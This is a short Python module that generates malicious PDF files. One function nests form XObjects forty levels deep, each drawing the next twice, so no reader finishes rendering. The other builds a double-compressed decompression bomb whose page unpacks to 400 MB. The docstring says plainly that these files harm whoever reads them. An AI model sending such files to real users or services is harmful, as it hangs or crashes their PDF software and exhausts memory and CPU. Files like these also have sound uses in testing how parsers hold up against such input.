"""Small PDFs that harm whoever reads them."""

from __future__ import annotations

import zlib


def endless() -> bytes:
    """A small PDF that no reader gets to the end of: forms that show forms twice, forty deep."""
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R/Resources<</XObject<</X 5 0 R>>>>>>"
    head = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    resources = [head + b"/Resources<</XObject<</X %d 0 R>>>>" % (level + 6) for level in range(40)]
    forms = [_stream(resource, b"/X Do /X Do") for resource in resources]
    last = _stream(head, b"0 0 m 9 9 l S")
    return _assembled([page, _stream(b"", b"/X Do"), *forms, last])


def bomb() -> bytes:
    """A small PDF whose page unpacks to 400 MB."""
    packed = zlib.compressobj(1)
    once = b"".join(packed.compress(bytes(10**7)) for _ in range(20)) + packed.flush()
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>"
    return _assembled([page, _stream(b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(once, 9))])


def _stream(head: bytes, content: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (head, len(content), content)


def _assembled(rest: list[bytes]) -> bytes:
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", *rest]
    body, places = b"%PDF-1.4\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    rows = b"".join(b"%010d 00000 n \n" % place for place in places)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + rows
    return (
        body
        + table
        + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))
    )
